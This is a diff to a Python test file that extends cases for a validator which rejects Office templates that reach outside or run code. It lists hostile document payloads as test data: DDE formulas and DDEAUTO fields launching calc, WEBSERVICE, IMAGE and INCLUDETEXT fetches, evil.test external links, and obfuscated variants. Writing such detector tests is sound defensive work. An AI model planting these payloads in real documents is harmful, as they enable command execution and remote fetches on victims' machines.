@@ -263,6 +263,7 @@ LINK = (
     b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
     b'Target="%s" TargetMode="External"/></Relationships>'
 )
+WORD = b'<w:p xmlns:w="urn:w">%s</w:p>'
 
 
 @pytest.mark.parametrize(
@@ -279,6 +280,17 @@ LINK = (
         ("xl/extra.xml", b"<c><f>WEBSERVICE(A1)</f></c>", "reaches outside"),
         ("xl/extra.xml", b"<c><f>cmd|'/c calc'!A0</f></c>", "reaches outside"),
         ("xl/extra.xml", b"<c><f>[1]Sheet1!A1</f></c>", "reaches outside"),
+        ("xl/extra.xml", b"<x:c xmlns:x='s'><x:f>WEBSERV&#73;CE(A1)</x:f></x:c>", "reaches outside"),
+        (
+            "xl/extra.xml",
+            b"<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>",
+            "reaches",
+        ),
+        ("parts/sheet.dat", b"<c><f>_xlfn.IMAGE(A1)</f></c>", "reaches outside"),
+        (RELS, (LINK % (b"image", b"http://evil.test/a.png")).replace(b"nal", b"n&#97;l"), "draws on a file elsewhere"),
+        ("xl/_rels/x.rels", (LINK % (b"vbaProject", b"a.bin")).replace(b"External", b"Internal"), "holds a program"),
+        ("xl/extra.xml", b'<?xml version="1.0" encoding="utf-7"?><c/>', "XML of a kind"),
+        ("xl/extra.xml", "<c/>".encode("utf-16-le"), "XML of a kind"),
     ],
 )
 def test_a_workbook_that_reaches_out_or_runs_is_refused(member: str, content: bytes, said: str) -> None:
@@ -291,13 +303,38 @@ def test_a_workbook_that_reaches_out_or_runs_is_refused(member: str, content: by
     ("member", "content"),
     [
         ("word/_rels/settings.xml.rels", LINK % (b"attachedTemplate", b"http://evil.test/t.dotm")),
-        ("word/extra.xml", b'<w:instrText>DDEAUTO c:\\\\windows "calc"</w:instrText>'),
-        ("word/extra.xml", b'<w:fldSimple w:instr="INCLUDETEXT http://x"/>'),
+        ("word/extra.xml", WORD % b'<w:instrText>DDEAUTO c:\\\\windows "calc"</w:instrText>'),
+        ("word/extra.xml", WORD % b"<w:instrText>ddeauto c:</w:instrText>"),
+        ("word/extra.xml", WORD % b"<w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO c:</w:instrText>"),
+        ("word/extra.xml", WORD % b"<w:instrText>&#68;DEAUTO c:</w:instrText>"),
+        ("word/extra.xml", b'<o:p xmlns:o="urn:w"><o:instrText>DDEAUTO c:</o:instrText></o:p>'),
+        (
+            "word/extra.xml",
+            WORD % b'<w:instrText>PAGE "</w:instrText><w:fldChar/><w:instrText>DDE "x"</w:instrText>',
+        ),
+        ("word/extra.xml", WORD % b'<w:fldSimple w:instr="INCLUDETEXT http://x"/>'),
+        ("word/extra.xml", WORD % b"<w:fldSimple w:instr='INCLUDETEXT http://x'/>"),
+        ("else/where.dat", WORD % b'<w:fldSimple w:instr="INCLUDETEXT http://x"/>'),
     ],
 )
 def test_a_document_that_draws_on_files_elsewhere_is_refused(member: str, content: bytes) -> None:
     with pytest.raises(Invalid, match="draws on a file elsewhere"):
         templates.look_into(with_member(word("{{payer}}"), member, content), "form.docx")
+
+
+def test_page_numbers_links_to_pages_and_sheets_of_any_name_are_no_reaching_out() -> None:
+    fields = WORD % (
+        b'<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/><w:instrText>HYPERLINK "https://payer.test/link"</w:instrText>'
+    )
+    assert templates.look_into(with_member(word("{{payer}}"), "word/extra.xml", fields), "form.docx").fields
+    links = LINK % (b"hyperlink", b"https://payer.test")
+    assert templates.look_into(with_member(word("{{payer}}"), "word/_rels/x.rels", links), "form.docx").fields
+    book = openpyxl.load_workbook(io.BytesIO(workbook(A1="{{payer}}", A2="=SUM('Import 2026'!A1:A3)")))
+    book.create_sheet("Import 2026")
+    out = io.BytesIO()
+    book.save(out)
+    notes = with_member(out.getvalue(), "xl/drawings/vmlDrawing1.vml", b"<xml><br></xml>")
+    assert templates.look_into(notes, "form.xlsx").fields == ("payer",)
 
 
 def test_bombs_and_other_files_are_refused() -> None:
